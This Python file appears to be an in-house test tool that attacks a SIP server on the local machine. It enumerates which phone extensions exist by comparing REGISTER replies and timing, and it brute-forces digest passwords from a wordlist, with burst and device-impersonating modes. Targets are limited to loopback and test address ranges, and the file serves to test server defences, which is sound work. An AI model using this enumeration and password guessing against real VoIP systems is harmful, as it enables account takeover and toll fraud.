#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attackers of our own, in the shape of a real phone, for tests on this machine.

    attacker.py enumerate --target 127.0.0.20:5060 --from 127.0.0.66 --extensions 1000-1999
    attacker.py guess --target 127.0.0.20:5060 --from 127.0.0.66 --user 203 --words FILE

`enumerate` takes both steps for each extension, without and with credentials,
and calls an extension found whose answers differ from those to users who
cannot exist: in code, reason, header order, size or shape of the challenge.
With --truth it also says how well the time alone tells both kinds apart.
`guess` tries passwords until one is taken or nothing is answered any more.
Each prints one line of JSON. Only loopback and 198.18.0.0/15, 198.51.100.0/24,
10.0.0.0/24 within a network namespace are accepted as targets.
"""

import argparse
import collections
import concurrent.futures
import ipaddress
import json
import random
import statistics
import sys
import threading
import time

from sip_text import Wire, digest, register, token

ALLOWED_TARGETS = [ipaddress.ip_network(text) for text in
                   ("127.0.0.0/8", "198.18.0.0/15", "198.51.100.0/24", "10.0.0.0/24")]
BASELINE_USERS = 24
RETRANSMISSIONS = (0.5, 1.0, 1.5)  # how long each copy of a request is waited for
MAX_REQUESTS = 20000


def ask(wire, text, waits=RETRANSMISSIONS):
    """Sends as a UDP phone does: again where nothing comes."""
    for wait in waits:
        reply = wire.ask(text, wait)
        if reply is not None:
            return reply
    return None


def nonce_shape(text):
    """Length and alphabet, so that a nonce that another program made shows."""
    alphabets = (("hex", "0123456789abcdef"), ("HEX", "0123456789ABCDEF"))
    name = next((name for name, letters in alphabets if not set(text) - set(letters)), "other")
    return [len(text), name]


def shape(reply):
    """Everything about a reply that could tell one kind of user from another, but time."""
    if reply is None:
        return "nothing"
    challenge = reply.challenge() or {}
    parameters = tuple(
        (name, nonce_shape(value) if name in ("nonce", "opaque") else value)
        for name, value in challenge.items())
    return json.dumps([reply.code, reply.reason, [name for name, _ in reply.headers],
                       len(reply.data), parameters, reply.header("Warning"), reply.header("Retry-After")])


def two_steps(wire, user, domain):
    """(shape and seconds without credentials, shape and seconds with wrong ones)."""
    call_id, tag = token(20), token()
    first = ask(wire, register(wire, user, domain, call_id=call_id, from_tag=tag))
    challenge = first.challenge() if first else None
    answer = None
    if challenge and "nonce" in challenge and "realm" in challenge:
        answer = digest(challenge, str(user), "wrong-" + token(6), "REGISTER", f"sip:{domain}")
    second = ask(wire, register(wire, user, domain, call_id=call_id, from_tag=tag, cseq=2,
                                authorization=answer)) if first else None
    return [(shape(reply), reply.seconds if reply else None) for reply in (first, second)]


def advantage(known, unknown):
    """How often a known user's time is above an unknown one's: 0.5 tells nothing."""
    if not known or not unknown:
        return None
    above = sum((a > b) + 0.5 * (a == b) for a in known for b in unknown)
    return round(above / (len(known) * len(unknown)), 3)


def times_by_truth(results, truth):
    report = []
    for step in (0, 1):
        known = [steps[step][1] for user, steps in results.items() if user in truth and steps[step][1]]
        unknown = [steps[step][1] for user, steps in results.items()
                   if user not in truth and steps[step][1]]
        report.append({
            "known_us": round(statistics.median(known) * 1e6) if known else None,
            "unknown_us": round(statistics.median(unknown) * 1e6) if unknown else None,
            "advantage": advantage(known, unknown)})
    return report


def spread(users, impossible):
    """Both in random order and evenly mixed, one that is impossible first: what changes with time, as the silence after a
    block, falls on both kinds alike, however early it comes."""
    random.shuffle(users)
    random.shuffle(impossible)
    places = [(at / len(kind), order, user) for order, kind in enumerate((impossible, users)) for at, user in enumerate(kind)]
    return [user for _, _, user in sorted(places)]


def enumerate_extensions(options):
    users = expand(options.extensions)
    width = max(len(user) for user in users)
    impossible = {str(random.randrange(9 * 10 ** (width - 1), 10 ** width)) for _ in range(BASELINE_USERS)}
    impossible -= set(users)
    queue = spread(users, sorted(impossible))
    local = threading.local()
    wires, silent = [], collections.Counter()

    def probe(user):
        if silent["in a row"] >= options.patience:
            return user, [("nothing", None)] * 2
        if not hasattr(local, "wire"):
            local.wire = Wire(options.source, options.target)
            wires.append(local.wire)
        if options.every:
            time.sleep(options.every)
        steps = two_steps(local.wire, user, options.domain)
        silent["in a row"] = silent["in a row"] + 1 if steps[0][0] == "nothing" else 0
        return user, steps

    with concurrent.futures.ThreadPoolExecutor(options.parallel) as pool:
        results = dict(pool.map(probe, queue))
    for wire in wires:
        wire.socket.close()
    return enumeration_report(results, users, impossible, expand(options.truth) if options.truth else None)


def enumeration_report(results, users, impossible, truth):
    baseline = [{results[user][step][0] for user in impossible} for step in (0, 1)]
    found = sorted(user for user in users
                   if any(results[user][step][0] not in baseline[step] for step in (0, 1)))
    answers = collections.Counter(
        "/".join(one if one == "nothing" else str(json.loads(one)[0]) for one, _ in steps)
        for steps in results.values())
    report = {"tool": "enumerate", "asked": len(users), "found": found, "answers": dict(answers)}
    if truth is not None:
        report["found_rightly"] = len(set(found) & set(truth))
        report["time"] = times_by_truth(results, set(truth))
    return report


class Guesser:
    """One guesser's conduct: what it says of itself and how it spaces its tries."""

    def __init__(self, wire, options):
        self.wire, self.options = wire, options
        self.call_id, self.tag, self.cseq = token(20), token(), 0
        self.answers = collections.Counter()
        self.found = None
        self.n_guesses = 0
        self.last_answered = 0

    def request(self, authorization=None):
        if not self.options.posing and authorization is None:
            self.call_id, self.tag, self.cseq = token(20), token(), 0
        self.cseq += 1
        return register(self.wire, self.options.user, self.options.domain, call_id=self.call_id,
                        from_tag=self.tag, cseq=self.cseq, authorization=authorization,
                        user_agent=self.options.user_agent)

    def credentials(self, challenge, word, nonce_count=1):
        return digest(challenge, self.options.user, word, "REGISTER", f"sip:{self.options.domain}",
                      nonce_count)

    def note(self, word, reply):
        self.answers[str(reply.code) if reply else "nothing"] += 1
        if reply is not None:
            self.last_answered = self.n_guesses
        if reply is not None and reply.code == 200:
            self.found = word

    def challenge(self):
        reply = ask(self.wire, self.request())
        return reply.challenge() if reply else None

    def one_by_one(self, words):
        started = time.monotonic()
        for word in words:
            due = started + self.n_guesses * self.options.every
            time.sleep(max(0.0, due - time.monotonic()))
            self.n_guesses += 1
            challenge = self.challenge()
            self.note(word, ask(self.wire, self.request(self.credentials(challenge, word)))
                      if challenge else None)
            if self.found or self.n_guesses - self.last_answered >= self.options.patience:
                return

    def all_at_once(self, words):
        challenge = self.challenge()
        if challenge is None:
            return
        pending = {}
        for count, word in enumerate(words, 1):
            text = self.request(self.credentials(challenge, word, count))
            pending[self.cseq] = word
            self.n_guesses += 1
            self.wire.send(text)
        deadline = time.monotonic() + 4
        while pending and time.monotonic() < deadline:
            reply = self.wire.receive(deadline - time.monotonic())
            number = int((reply.header("CSeq") or "0").split()[0]) if reply else 0
            if number in pending and reply.code >= 200:
                self.note(pending.pop(number), reply)
        self.answers["nothing"] += len(pending)

    def report(self):
        is_silent = self.found is None and self.last_answered < self.n_guesses
        return {"tool": "guess", "user": self.options.user, "guesses": self.n_guesses,
                "answers": dict(self.answers), "found": self.found,
                "silent_from": self.last_answered + 1 if is_silent and not self.options.burst else None}


def guess(options):
    with open(options.words, encoding="utf-8") as file:
        words = [line.strip() for line in file if line.strip()][:options.count]
    with Wire(options.source, options.target) as wire:
        guesser = Guesser(wire, options)
        if options.burst:
            for start in range(0, len(words), options.burst):
                guesser.all_at_once(words[start:start + options.burst])
                if guesser.found or guesser.last_answered <= start:
                    break
        else:
            guesser.one_by_one(words)
        return guesser.report()


def expand(text):
    """'200-202,310' -> ['200', '201', '202', '310']"""
    users = []
    for part in text.split(","):
        first, _, last = part.partition("-")
        users += [str(number).zfill(len(first)) for number in range(int(first), int(last or first) + 1)]
    if len(users) > MAX_REQUESTS:
        raise SystemExit(f"attacker: at most {MAX_REQUESTS} extensions")
    return users


def target(text):
    host, _, port = text.partition(":")
    address = ipaddress.ip_address(host)
    if not any(address in network for network in ALLOWED_TARGETS):
        raise argparse.ArgumentTypeError("not an address of a test on this machine")
    return host, int(port or 5060)


def read_options(arguments):
    parser = argparse.ArgumentParser(description="attackers of our own, for tests on this machine")
    kinds = parser.add_subparsers(dest="kind", required=True)
    for name in ("enumerate", "guess"):
        kind = kinds.add_parser(name)
        kind.add_argument("--target", type=target, required=True, help="ADDRESS:PORT")
        kind.add_argument("--from", dest="source", default="127.0.0.66", help="our address")
        kind.add_argument("--domain", default="office.example")
        kind.add_argument("--every", type=float, default=0.0, help="seconds between two tries")
        if name == "enumerate":
            kind.add_argument("--extensions", required=True, help="like 1000-1999")
            kind.add_argument("--truth", help="those that exist, to measure the time's advantage")
            kind.add_argument("--parallel", type=int, default=4)
            kind.add_argument("--patience", type=int, default=20, help="ends after so many silent ones in a row")
        else:
            kind.add_argument("--user", required=True)
            kind.add_argument("--words", required=True, help="file, one password a line")
            kind.add_argument("--count", type=int, default=MAX_REQUESTS, help="at most so many")
            kind.add_argument("--burst", type=int, default=0, help="so many at once on one nonce")
            kind.add_argument("--posing", action="store_true",
                              help="one Call-ID and Contact, rising CSeq, like a device with an old password")
            kind.add_argument("--patience", type=int, default=3, help="ends after so many silent tries")
            kind.add_argument("--user-agent", default="Yealink SIP-T46S 66.86.0.15")
    return parser.parse_args(arguments)


def main():
    options = read_options(sys.argv[1:])
    report = enumerate_extensions(options) if options.kind == "enumerate" else guess(options)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
